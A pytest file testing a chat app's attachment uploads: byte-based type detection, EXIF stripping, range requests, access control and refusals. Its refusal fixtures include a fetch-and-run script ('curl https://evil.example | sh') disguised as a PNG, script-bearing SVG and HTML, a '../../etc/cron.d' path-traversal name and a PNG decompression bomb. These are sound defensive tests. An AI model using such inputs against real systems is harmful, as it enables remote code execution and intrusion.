"""Attachments: one file per message, its kind read from its bytes, served to members only.

Every sample is made here, in memory: Pillow draws the images, `wave` writes the WAV, and the
MP3, Ogg Opus, MP4/M4A, WebM and PDF files are assembled from their published layouts (silent
MP3 frames, Ogg pages with their CRC, ISO boxes, EBML elements). They are tiny, but each is the
real container a phone or browser sends.
"""

import io
import json
import os
import re
import struct
import time
import wave
from pathlib import Path
from urllib.parse import urlsplit
from zlib import crc32

import pytest
import sqlalchemy as sa
from PIL import Image
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from chipper import media
from chipper.config import Config
from chipper.models import Attachment, Event, Message
from chipper.services import ServiceError
from tests import media_samples
from tests.conftest import HTMX, JSON, refused_page, text, without_tokens

# Samples


@pytest.fixture
def app_config():
    # The scheduler sweeps held shares and cut-off uploads every 50 ms instead of every minute.
    return {"UPLOAD_SWEEP_INTERVAL": 0.05}


def image(fmt: str, size=(40, 30), exif: Image.Exif | None = None, mode="RGB") -> bytes:
    picture = Image.new(mode, size, "#c83232")
    # The left half differs, so a rotation shows in the pixels.
    picture.paste("#3232c8", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    picture.save(out, format=fmt, **({"exif": exif} if exif is not None else {}))
    return out.getvalue()


def exif_with_gps_and_orientation() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x0112] = 6  # Orientation: turn 90° clockwise to show upright
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 12.0), 3: "W", 4: (0.0, 7.0, 39.0)}  # GPS
    return exif


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\0\0" * 800)
    return out.getvalue()


def mp3(frames: int = 5) -> bytes:
    """MPEG-1 layer III, 128 kbit/s, 44.1 kHz, mono: 417-byte frames of silence (all-zero side
    information and data), after an ID3v2 tag."""
    frame = b"\xff\xfb\x90\xc4" + bytes(413)
    tag = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"TIT2\x00\x00\x00\x00\x00\x00"[:10]
    return tag + frame * frames


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1) ^ 0x04C11DB7 if crc & 0x80000000 else crc << 1
            crc &= 0xFFFFFFFF
    return crc


def _ogg_page(packet: bytes, seq: int, flags: int, granule: int) -> bytes:
    lacing = [255] * (len(packet) // 255) + [len(packet) % 255]
    header = struct.pack("<4sBBqIII", b"OggS", 0, flags, granule, 1, seq, 0)
    page = header + bytes([len(lacing), *lacing]) + packet
    return page[:22] + struct.pack("<I", _ogg_crc(page)) + page[26:]


def ogg_opus() -> bytes:
    """Ogg Opus as browsers record it: OpusHead, OpusTags, then one 20 ms silent packet."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 312, 48000, 0, 0)
    tags = b"OpusTags" + struct.pack("<I", 7) + b"chipper" + struct.pack("<I", 0)
    return (
        _ogg_page(head, 0, 0x02, 0)
        + _ogg_page(tags, 1, 0, 0)
        + _ogg_page(b"\xf8\xff\xfe", 2, 0x04, 312 + 960)
    )


def ogg_theora() -> bytes:
    return _ogg_page(b"\x80theora" + bytes(34), 0, 0x02, 0) + _ogg_page(b"\x00", 1, 0x04, 0)


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _track(handler: bytes) -> bytes:
    hdlr = _box(b"hdlr", bytes(8) + handler + bytes(12) + b"Chipper\0")
    return _box(b"trak", _box(b"mdia", hdlr))


def iso_media(brand: bytes, *handlers: bytes) -> bytes:
    """ftyp, a moov with one track per handler (vide, soun), and the media data."""
    ftyp = _box(b"ftyp", brand + b"\0\0\0\0" + brand + b"isommp42")
    moov = _box(b"moov", b"".join(_track(h) for h in handlers))
    return ftyp + moov + _box(b"mdat", bytes(64))


def _ebml(element_id: int, payload: bytes) -> bytes:
    size = (
        bytes([0x80 | len(payload)])
        if len(payload) < 127
        else b"\x01" + len(payload).to_bytes(7, "big")
    )
    return element_id.to_bytes((element_id.bit_length() + 7) // 8, "big") + size + payload


def webm(*track_types: int, doctype: bytes = b"webm") -> bytes:
    """EBML header, then a Segment of unknown size (as MediaRecorder writes it) holding Info,
    Tracks (1 video, 2 audio) and a Cluster with one block."""
    header = _ebml(
        0x1A45DFA3,
        _ebml(0x4286, b"\x01")
        + _ebml(0x42F7, b"\x01")
        + _ebml(0x4282, doctype)
        # DocTypeVersion, DocTypeReadVersion
        + _ebml(0x4287, b"\x04")
        + _ebml(0x4285, b"\x02"),
    )
    codecs = {1: b"V_VP8", 2: b"A_OPUS"}
    tracks = b"".join(
        _ebml(
            0xAE,
            _ebml(0xD7, bytes([n]))
            + _ebml(0x73C5, bytes([n]))
            + _ebml(0x83, bytes([kind]))
            + _ebml(0x86, codecs[kind]),
        )
        for n, kind in enumerate(track_types, start=1)
    )
    info = _ebml(0x1549A966, _ebml(0x2AD7B1, (1_000_000).to_bytes(3, "big")))
    cluster = _ebml(0x1F43B675, _ebml(0xE7, b"\x00") + _ebml(0xA3, b"\x81\x00\x00\x80\xf8\xff\xfe"))
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"
    return header + segment + info + _ebml(0x1654AE6B, tracks) + cluster


PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)

# name: (bytes, file name, message type, content type)
ACCEPTED = {
    "jpeg": (image("JPEG"), "photo.jpg", "image", "image/jpeg"),
    "png": (image("PNG", mode="RGBA"), "drawing.png", "image", "image/png"),
    "gif": (image("GIF"), "still.gif", "image", "image/gif"),
    "animated gif": (animated_gif(), "dance.gif", "image", "image/gif"),
    "webp": (image("WEBP"), "photo.webp", "image", "image/webp"),
    "mp3": (mp3(), "song.mp3", "audio", "audio/mpeg"),
    "ogg opus": (ogg_opus(), "voice.ogg", "audio", "audio/ogg"),
    "wav": (wav(), "memo.wav", "audio", "audio/wav"),
    "m4a": (iso_media(b"M4A ", b"soun"), "voice.m4a", "audio", "audio/mp4"),
    "mp4 with sound only": (iso_media(b"isom", b"soun"), "recording.mp4", "audio", "audio/mp4"),
    "webm audio": (webm(2), "voice.webm", "audio", "audio/webm"),
    "mp4": (iso_media(b"isom", b"vide", b"soun"), "clip.mp4", "video", "video/mp4"),
    "webm video": (webm(1, 2), "clip.webm", "video", "video/webm"),
    "pdf": (PDF, "minutes.pdf", "file", "application/pdf"),
    # Real encoded files (FFmpeg through PyAV), as phones and browsers send them.
    "real mp3": (media_samples.mp3(), "tone.mp3", "audio", "audio/mpeg"),
    "real mp3 without a tag": (media_samples.mp3_without_tag(), "tone.mp3", "audio", "audio/mpeg"),
    "real mp3 with crcs (ff fa)": (media_samples.mp3_with_crc(), "crc.mp3", "audio", "audio/mpeg"),
    "real mpeg-2.5 mp3 (ff e3)": (
        media_samples.mp3_without_tag(rate=8000),
        "phone.mp3",
        "audio",
        "audio/mpeg",
    ),
    "real aac (adts)": (media_samples.adts_aac(), "radio.aac", "audio", "audio/aac"),
    "real ogg opus": (media_samples.ogg_opus(), "tone.ogg", "audio", "audio/ogg"),
    "real m4a (aac)": (media_samples.m4a(), "memo.m4a", "audio", "audio/mp4"),
    "real webm audio (opus)": (media_samples.webm_audio(), "note.webm", "audio", "audio/webm"),
    "real mp4 (h264 + aac)": (media_samples.mp4(), "clip.mp4", "video", "video/mp4"),
    "real webm (vp8 + opus)": (media_samples.webm_video(), "clip.webm", "video", "video/webm"),
}

# Fixtures and helpers


@pytest.fixture
def chat(make, ada, bob) -> int:
    """Ada (signed in on `client`) and Bob's private conversation."""
    return make.private(ada, bob)


@pytest.fixture
def folder(app) -> str:
    return app.config["UPLOAD_FOLDER"]


def files_in(folder: str) -> set[str]:
    """Everything in the upload folder, temporary files included."""
    return set(os.listdir(folder)) if os.path.isdir(folder) else set()


def multipart(fields: dict) -> dict:
    """Keyword arguments for a multipart POST, encoded in memory (the test client would spool
    a large body to a temporary file that a refused request never reads or closes)."""
    boundary, data = encode_multipart(fields)
    return {"data": data, "content_type": f"multipart/form-data; boundary={boundary}"}


def send(client, chat, data: bytes, name: str, body: str = "", headers=JSON, content_type=None):
    upload = FileStorage(io.BytesIO(data), name, content_type=content_type)
    return client.post(
        f"/conversations/{chat}/messages",
        headers=headers,
        **multipart({"body": body, "file": upload}),
    )


def fetch(client, url: str, headers=None):
    """GET an attachment and close the response, as a browser would once it has the bytes."""
    response = client.get(url, headers=headers)
    response.get_data()
    response.close()
    return response


def counts(sql) -> tuple[int, int]:
    return (
        sql.scalar(sa.select(sa.func.count(Message.id))),
        sql.scalar(sa.select(sa.func.count(Attachment.id))),
    )


# Accepted kinds


@pytest.mark.parametrize(("data", "name", "kind", "content_type"), ACCEPTED.values(), ids=ACCEPTED)
def test_each_kind_is_typed_from_its_bytes_stored_and_served(
    client, chat, folder, data, name, kind, content_type
):
    # The browser's content type and the name's extension are ignored.
    response = send(client, chat, data, name.rsplit(".")[0] + ".bin", content_type="text/plain")
    assert response.status_code == 201, text(response)
    message = response.get_json()
    attachment = message["attachment"]
    assert message["type"] == kind
    assert attachment["kind"] == kind
    assert attachment["content_type"] == content_type
    stored = files_in(folder)
    assert len(stored) == (2 if kind == "image" else 1)
    assert not any(f.startswith(".") for f in stored)

    served = fetch(client, attachment["url"])
    assert served.status_code == 200
    assert served.mimetype == content_type
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    # Whoever signs in next in the same browser must not get this copy from a shared cache.
    assert "Cookie" in served.vary
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert served.headers["Accept-Ranges"] == "bytes"
    assert served.headers["ETag"]
    cache = served.headers["Cache-Control"]
    assert "private" in cache and "public" not in cache
    disposition = served.headers["Content-Disposition"]
    assert disposition.startswith("attachment;" if kind == "file" else "inline;")
    assert "filename=" in disposition
    assert attachment["size"] == len(served.data)
    if kind != "image":
        assert served.data == data  # sound, video and PDF are kept byte for byte


def test_kind_is_not_taken_from_the_name(client, chat):
    response = send(client, chat, wav(), "holiday.jpg", content_type="image/jpeg")
    assert response.get_json()["type"] == "audio"
    assert response.get_json()["attachment"]["content_type"] == "audio/wav"


def test_a_file_with_a_caption(client, chat):
    response = send(client, chat, image("PNG"), "cat.png", body="  our cat \n")
    message = response.get_json()
    assert (message["type"], message["body"]) == ("image", "our cat")


def test_images_are_re_encoded_upright_without_exif(app, client, chat, folder):
    data = image("JPEG", size=(40, 30), exif=exif_with_gps_and_orientation())
    assert b"SpyCam" in data and Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)
    attachment = send(client, chat, data, "IMG_0001.jpg").get_json()["attachment"]
    # Orientation 6 turns the 40×30 picture on its side.
    assert (attachment["width"], attachment["height"]) == (30, 40)
    served = fetch(client, attachment["url"]).data
    assert b"SpyCam" not in served
    picture = Image.open(io.BytesIO(served))
    assert picture.size == (30, 40)
    assert dict(picture.getexif()) == {}
    assert picture.getexif().get_ifd(0x8825) == {}
    # The blue half was on the left; turned clockwise it is on top.
    top, bottom = picture.getpixel((15, 5)), picture.getpixel((15, 35))
    assert top[2] > top[0] and bottom[0] > bottom[2]


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_exif_is_dropped_from_other_image_formats(client, chat, fmt):
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"
    data = image(fmt, exif=exif)
    assert b"SpyCam" in data
    attachment = send(client, chat, data, f"x.{fmt.lower()}").get_json()["attachment"]
    served = fetch(client, attachment["url"]).data
    assert b"SpyCam" not in served
    assert dict(Image.open(io.BytesIO(served)).getexif()) == {}


def test_animations_keep_their_frames(client, chat):
    attachment = send(client, chat, animated_gif(), "dance.gif").get_json()["attachment"]
    assert Image.open(io.BytesIO(fetch(client, attachment["url"]).data)).n_frames == 3


def test_thumbnail_fits_the_timeline(client, chat):
    attachment = send(client, chat, image("PNG", size=(1000, 500)), "wide.png").get_json()[
        "attachment"
    ]
    assert (attachment["width"], attachment["height"]) == (1000, 500)
    served = fetch(client, attachment["thumbnail_url"])
    assert served.status_code == 200
    assert served.mimetype == "image/webp"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert Image.open(io.BytesIO(served.data)).size == (640, 320)


def test_only_images_have_thumbnails(client, chat):
    attachment = send(client, chat, PDF, "a.pdf").get_json()["attachment"]
    assert attachment["thumbnail_url"] is None
    url = f"/attachments/{attachment['id']}/thumbnail"
    assert fetch(client, url, headers=JSON).status_code == 404


def test_file_name_is_kept_only_as_metadata(client, chat, folder):
    name = "Résumé\x07 final\t.pdf"
    attachment = send(client, chat, PDF, name).get_json()["attachment"]
    assert attachment["name"] == "Résumé final.pdf"
    assert all(re.fullmatch(r"[0-9a-f]{32}\.pdf", f) for f in files_in(folder))
    disposition = fetch(client, attachment["url"]).headers["Content-Disposition"]
    assert "filename*=UTF-8''R%C3%A9sum%C3%A9%20final.pdf" in disposition


# Range requests: audio and video seek with these


def test_range_returns_the_part_asked_for(client, chat):
    data = wav()
    url = send(client, chat, data, "memo.wav").get_json()["attachment"]["url"]
    part = fetch(client, url, headers={"Range": "bytes=100-199"})
    assert part.status_code == 206
    assert part.headers["Content-Range"] == f"bytes 100-199/{len(data)}"
    assert part.data == data[100:200]
    tail = fetch(client, url, headers={"Range": "bytes=-10"})
    assert tail.status_code == 206
    assert tail.data == data[-10:]


def test_range_past_the_end_is_416(client, chat):
    data = wav()
    url = send(client, chat, data, "memo.wav").get_json()["attachment"]["url"]
    response = fetch(client, url, headers={"Range": f"bytes={len(data)}-{len(data) + 10}"})
    assert response.status_code == 416
    assert response.headers["Content-Range"] == f"bytes */{len(data)}"


def test_if_range_with_a_stale_etag_sends_everything(client, chat):
    data = wav()
    url = send(client, chat, data, "memo.wav").get_json()["attachment"]["url"]
    response = fetch(client, url, headers={"Range": "bytes=0-9", "If-Range": '"stale"'})
    assert response.status_code == 200
    assert response.data == data


def test_unchanged_file_is_not_sent_again(client, chat):
    url = send(client, chat, wav(), "memo.wav").get_json()["attachment"]["url"]
    etag = fetch(client, url).headers["ETag"]
    assert fetch(client, url, headers={"If-None-Match": etag}).status_code == 304


# Refusals: nothing is left on disk or in the database

SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><title>hi</title><script>alert(1)</script>"
UNSUPPORTED = "Chipper takes photos (JPEG, PNG, GIF, WebP), audio"
DAMAGED = "This file is damaged or incomplete. Try another copy."


def png_bomb(width=30_000, height=30_000) -> bytes:
    """A PNG whose header claims 900 megapixels of 1-bit grey; the data is a stub."""

    def chunk(kind, payload):
        return (
            struct.pack(">I", len(payload))
            + kind
            + payload
            + struct.pack(">I", crc32(kind + payload))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"x\x9c") + chunk(b"IEND", b"")
    )


TEN_MB = 10 * 1024 * 1024
WEBM_AUDIO = media_samples.webm_audio()
REFUSED = {
    "script renamed .png": (SCRIPT, "cat.png", 415, UNSUPPORTED),
    "svg": (SVG, "logo.svg", 415, UNSUPPORTED),
    "html": (HTML, "page.html", 415, UNSUPPORTED),
    "ogg video": (ogg_theora(), "clip.ogv", 415, UNSUPPORTED),
    "matroska": (webm(1, doctype=b"matroska"), "film.mkv", 415, UNSUPPORTED),
    "truncated jpeg": (image("JPEG", size=(200, 200))[:600], "cut.jpg", 400, DAMAGED),
    "truncated png": (image("PNG", size=(200, 200))[:-30], "cut.png", 400, DAMAGED),
    "truncated mp4": (iso_media(b"isom", b"vide")[:-20], "cut.mp4", 400, DAMAGED),
    "truncated mp3": (mp3(frames=1)[:200], "cut.mp3", 400, DAMAGED),
    # Starts like an MP3 frame that filetype does not know: the frame checks still apply.
    "truncated mp3 with crcs": (media_samples.mp3_with_crc()[:200], "cut.mp3", 400, DAMAGED),
    # FFmpeg gives the Segment its size, so a cut anywhere shows.
    "truncated webm": (WEBM_AUDIO[: len(WEBM_AUDIO) // 2], "cut.webm", 400, DAMAGED),
    # Cut inside its first page, which names the codec.
    "truncated ogg": (media_samples.ogg_opus()[:40], "cut.ogg", 400, DAMAGED),
    # Cut before its data chunk.
    "truncated wav": (wav()[:40], "cut.wav", 400, DAMAGED),
    "pdf without its end": (PDF[:-7], "cut.pdf", 400, DAMAGED),
    "empty": (b"", "nothing.png", 400, "This file is empty."),
    "decompression bomb": (png_bomb(), "bomb.png", 400, "Images can be at most 50 megapixels"),
    "folders in the name": (image("PNG"), "../../etc/cron.d/x.png", 400, "cannot contain folders"),
    "over 10 MB": (b"%PDF-1.4\n" + bytes(TEN_MB), "big.pdf", 413, "at most 10 MB"),
    "request over the limit": (bytes(TEN_MB + 512 * 1024), "huge.pdf", 413, "at most 10 MB"),
}


@pytest.mark.parametrize(("data", "name", "status", "message"), REFUSED.values(), ids=REFUSED)
def test_refused_files_json(client, sql, chat, folder, data, name, status, message):
    before = (files_in(folder), counts(sql))
    response = send(client, chat, data, name, body="look")
    assert response.status_code == status
    body = response.get_json()
    assert message in body["error"]
    assert body["field"] == "file"
    assert (files_in(folder), counts(sql)) == before


@pytest.mark.parametrize(
    ("data", "name", "status", "message"),
    [REFUSED[k] for k in ("svg", "truncated jpeg", "over 10 MB", "request over the limit")],
    ids=["svg", "truncated", "over 10 MB", "request over the limit"],
)
def test_refused_file_without_javascript_shows_why_on_the_page(
    client, sql, chat, folder, data, name, status, message
):
    page = f"/conversations/{chat}"
    token = client.csrf_from_page(page)
    fields = {"body": "look at this", "file": FileStorage(io.BytesIO(data), name)}
    response = client.post(
        f"{page}/messages", **multipart({**fields, "csrf_token": token}), csrf=False
    )
    html = refused_page(client, response, chat)
    assert "<html" in html
    error = re.search(r'<p class="error" id="composer-error" role="alert">(.*?)</p>', html).group(1)
    assert message in error
    if status != 413 or len(data) <= TEN_MB + 1024:
        # The text comes back unless the body was too big to read at all.
        assert ">look at this</textarea>" in html
    assert counts(sql) == (0, 0)
    assert files_in(folder) == set()


@pytest.mark.parametrize("name", ["..\\x.png", "C:\\Users\\ada\\x.png", "a/b.png"])
def test_names_with_folders_are_refused(app, name):
    """(Backslashes cannot be tested through a multipart body: its quoting drops them.)"""
    with app.app_context(), pytest.raises(ServiceError, match="cannot contain folders"):
        media.store(io.BytesIO(image("PNG")), name)
    assert files_in(app.config["UPLOAD_FOLDER"]) == set()


def test_refused_file_htmx_swaps_the_composer(client, sql, chat):
    response = send(client, chat, SVG, "logo.svg", body="look", headers=HTMX)
    # 422 is what the page script swaps in place; the JSON API gets the precise 415.
    assert response.status_code == 422
    assert response.headers["HX-Retarget"] == "#composer"
    html = text(response)
    assert html.lstrip().startswith('<form id="composer"')
    assert UNSUPPORTED in html
    assert ">look</textarea>" in html
    assert counts(sql) == (0, 0)


def test_a_failed_save_removes_the_file(client, sql, chat, folder, monkeypatch):
    """The file is written before the message; if the transaction fails, the file goes too."""

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr("chipper.services.messages.message_event", broken)
    with pytest.raises(RuntimeError):
        send(client, chat, image("JPEG"), "photo.jpg")
    assert files_in(folder) == set()
    assert counts(sql) == (0, 0)


def leave_file(folder: str, name: str, age: float) -> None:
    """A file in the upload folder, last written `age` seconds ago."""
    os.makedirs(folder, exist_ok=True)
    path = os.path.join(folder, name)
    with open(path, "wb") as f:
        f.write(b"half a file")
    then = time.time() - age
    os.utime(path, (then, then))


def test_temporary_files_left_by_a_crash_are_swept_after_an_hour(client, chat, folder):
    leave_file(folder, ".partial-crashed", 2 * 3600)  # a worker killed mid-upload
    leave_file(folder, ".partial-uploading", 60)  # another upload, still being written
    leave_file(folder, "5f0e3a0c9d2b4e1f8a7c6b5d4e3f2a1b.pdf", 2 * 3600)  # a stored file
    # The first request starts the process's jobs; the sweep runs every 50 ms here.
    stored = send(client, chat, PDF, "a.pdf").get_json()["attachment"]
    deadline = time.monotonic() + 5
    while ".partial-crashed" in files_in(folder):
        assert time.monotonic() < deadline, "the crashed upload was never swept"
        time.sleep(0.02)
    assert {".partial-uploading", "5f0e3a0c9d2b4e1f8a7c6b5d4e3f2a1b.pdf"} <= files_in(folder)
    assert fetch(client, stored["url"]).status_code == 200


def test_uploads_default_to_the_instance_folder_outside_static(app, monkeypatch):
    """Files in static/ would be served to anyone, without a login."""
    monkeypatch.delenv("UPLOAD_FOLDER", raising=False)
    monkeypatch.setenv("SECRET_KEY", "not written to the instance folder")
    folder = Path(Config(app.instance_path).UPLOAD_FOLDER).resolve()
    assert folder.is_relative_to(Path(app.instance_path).resolve())
    assert not folder.is_relative_to(Path(app.static_folder).resolve())
    assert not folder.is_relative_to(Path(app.root_path).resolve())


def test_an_empty_file_field_sends_text(client, chat, folder):
    """A browser sends the file field even when no file was chosen."""
    response = send(client, chat, b"", "", body="just words")
    assert response.status_code == 201
    assert (response.get_json()["type"], response.get_json()["attachment"]) == ("text", None)
    assert files_in(folder) == set()


def post_fields(client, chat, fields: list[tuple[str, object]], headers=JSON):
    """A multipart POST with repeated fields, in order, as a browser sends the composer."""
    boundary, data = encode_multipart(MultiDict(fields))
    return client.post(
        f"/conversations/{chat}/messages",
        data=data,
        content_type=f"multipart/form-data; boundary={boundary}",
        headers=headers,
    )


def test_the_camera_field_alone_sends_its_photo(client, chat):
    """The picker was left empty; the phone's camera field holds the photo."""
    empty = FileStorage(io.BytesIO(b""), "", content_type="application/octet-stream")
    photo = FileStorage(io.BytesIO(image("JPEG")), "image.jpg")
    response = post_fields(client, chat, [("body", ""), ("file", empty), ("file", photo)])
    assert response.status_code == 201
    assert response.get_json()["type"] == "image"


def test_two_files_at_once_are_refused(client, sql, chat, folder):
    files = [("file", FileStorage(io.BytesIO(d), n)) for d, n in ((PDF, "a.pdf"), (wav(), "b.wav"))]
    response = post_fields(client, chat, [("body", "both"), *files])
    assert response.status_code == 422
    assert response.get_json() == {"error": "Attach one file at a time.", "field": "file"}
    assert counts(sql) == (0, 0)
    assert files_in(folder) == set()


def test_no_text_and_no_file_is_refused(client, chat):
    response = send(client, chat, b"", "", body="")
    assert response.status_code == 422
    assert response.get_json()["error"] == "Write a message before sending."


# The timeline, the list and live updates


def test_send_without_javascript_shows_the_picture(client, sql, chat):
    page = f"/conversations/{chat}"
    response = client.submit(
        page, f"{page}/messages", {"body": "", "file": (io.BytesIO(image("PNG")), "cat.png")}
    )
    assert response.status_code == 303
    assert urlsplit(response.headers["Location"]).path == page
    attachment = sql.scalar(sa.select(Attachment.id))
    html = text(client.get(page))
    assert (
        f'<a href="/attachments/{attachment}"><img src="/attachments/{attachment}/thumbnail"'
        in html
    )
    assert 'width="40" height="30" alt="cat.png"' in html
    assert '<p class="body"></p>' not in html


def test_composer_takes_files_without_javascript(client, chat):
    html = text(client.get(f"/conversations/{chat}"))
    form = re.search(r'<form id="composer".*?</form>', html, re.S).group(0)
    assert 'enctype="multipart/form-data"' in form
    assert re.search(
        r'<input type="file" name="file" accept="image/jpeg,[^"]*application/pdf"', form
    )
    # On phones: the camera and the microphone straight away.
    assert '<input type="file" name="file" accept="image/*,video/*" capture="environment">' in form
    assert '<input type="file" name="file" accept="audio/*" capture="user">' in form


@pytest.mark.parametrize(
    ("data", "name", "markup"),
    [
        (wav(), "memo.wav", '<audio controls preload="metadata" src="/attachments/{id}"></audio>'),
        (
            iso_media(b"isom", b"vide"),
            "clip.mp4",
            '<video controls preload="metadata" src="/attachments/{id}">',
        ),
        (PDF, "minutes.pdf", '<a href="/attachments/{id}" download>minutes.pdf</a>'),
    ],
    ids=["audio", "video", "pdf"],
)
def test_timeline_plays_audio_and_video_and_offers_files(client, chat, data, name, markup):
    response = send(client, chat, data, name, body="listen", headers=HTMX)
    assert response.status_code == 201
    attachment = client.get(f"/conversations/{chat}", headers=JSON).get_json()["messages"][0][
        "attachment"
    ]
    for html in (text(response), text(client.get(f"/conversations/{chat}"))):
        assert markup.format(id=attachment["id"]) in html
        assert f"{name}</a>" in html
        assert '<span class="file-size">' in html
        assert '<p class="body">listen</p>' in html


@pytest.mark.parametrize(
    ("data", "name", "preview"),
    [
        (image("PNG"), "a.png", "Photo"),
        (ogg_opus(), "a.ogg", "Voice message"),
        (webm(1), "a.webm", "Video"),
        (PDF, "a.pdf", "File"),
    ],
    ids=["photo", "voice", "video", "file"],
)
def test_conversation_list_says_what_was_sent(client, login_client, chat, bob, data, name, preview):
    send(client, chat, data, name)
    html = text(login_client(bob).get("/conversations"))
    assert f'<span class="preview">{preview}</span>' in html
    send(client, chat, data, name, body="see this")
    html = text(login_client(bob).get("/conversations"))
    assert f'<span class="preview">{preview}: see this</span>' in html


def test_live_update_carries_the_attachment(client, sql, chat, ada, bob):
    attachment = send(client, chat, image("PNG"), "cat.png").get_json()["attachment"]
    payload = json.loads(
        sql.scalar(sa.select(Event.payload).where(Event.kind == "message-created"))
    )
    assert payload["data"]["type"] == "image"
    assert payload["data"]["attachment"] == attachment
    assert f'src="/attachments/{attachment["id"]}/thumbnail"' in payload["html"]
    # Rendered once for everyone: no viewer's own marks or tokens.
    assert "mine" not in payload["html"] and "csrf_token" not in payload["html"]


# Who may fetch, and deleting


@pytest.fixture
def sent(client, chat) -> dict:
    return send(client, chat, image("JPEG"), "photo.jpg").get_json()["attachment"]


def test_the_other_participant_can_fetch(login_client, bob, sent):
    bobs = login_client(bob)
    assert fetch(bobs, sent["url"]).status_code == 200
    assert fetch(bobs, sent["thumbnail_url"]).status_code == 200


@pytest.mark.parametrize("headers", [None, JSON], ids=["page", "json"])
@pytest.mark.parametrize("variant", ["url", "thumbnail_url"])
def test_non_participants_get_404(make, login_client, sent, headers, variant):
    outsider = login_client(make.user("Eve"))
    response = fetch(outsider, sent[variant], headers)
    missing = fetch(outsider, sent[variant].replace(f"/{sent['id']}", "/999999"), headers=headers)
    assert response.status_code == missing.status_code == 404
    assert without_tokens(text(response)) == without_tokens(text(missing))
    if headers:
        assert response.get_json() == {"error": "Attachment not found."}


@pytest.mark.parametrize("headers", [None, JSON], ids=["page", "json"])
def test_signed_out_visitors_cannot_fetch(client, sent, headers):
    client.post("/logout")
    response = fetch(client, sent["url"], headers=headers)
    if headers:
        assert response.status_code == 401
    else:
        assert response.status_code == 303
        assert urlsplit(response.headers["Location"]).path == "/login"
    assert b"JFIF" not in response.data


def test_someone_who_left_the_group_cannot_fetch(client, make, login_client, ada, bob):
    group = make.group(ada, [bob])
    attachment = send(client, group, PDF, "plan.pdf").get_json()["attachment"]
    bobs = login_client(bob)
    assert fetch(bobs, attachment["url"]).status_code == 200
    bobs.delete(f"/conversations/{group}/participants/{bob}")
    assert fetch(bobs, attachment["url"]).status_code == 404


@pytest.mark.parametrize("headers", [None, JSON], ids=["page", "json"])
def test_outsiders_and_signed_out_visitors_cannot_upload(
    client, make, login_client, sql, chat, folder, headers
):
    outsider = login_client(make.user("Eve"))
    refused = send(outsider, chat, image("PNG"), "x.png", headers=headers)
    assert refused.status_code == 404
    client.post("/logout")
    signed_out = send(client, chat, image("PNG"), "x.png", headers=headers)
    assert signed_out.status_code == (401 if headers else 303)
    assert counts(sql) == (0, 0)
    assert files_in(folder) == set()


def test_deleting_the_message_deletes_its_files(client, sql, chat, folder, sent):
    assert len(files_in(folder)) == 2
    message = sql.scalar(sa.select(Message.id))
    response = client.delete(f"/messages/{message}", headers=JSON)
    assert response.status_code == 200
    assert response.get_json()["attachment"] is None
    assert files_in(folder) == set()
    assert counts(sql) == (1, 0)
    assert fetch(client, sent["url"]).status_code == 404
    html = text(client.get(f"/conversations/{chat}"))
    assert "Message deleted" in html and "/attachments/" not in html


def test_a_file_missing_from_disk_is_404_not_500(client, folder, sent):
    for name in files_in(folder):
        os.remove(os.path.join(folder, name))
    response = fetch(client, sent["url"])
    assert response.status_code == 404
    assert "no longer here" in response.get_data(as_text=True)
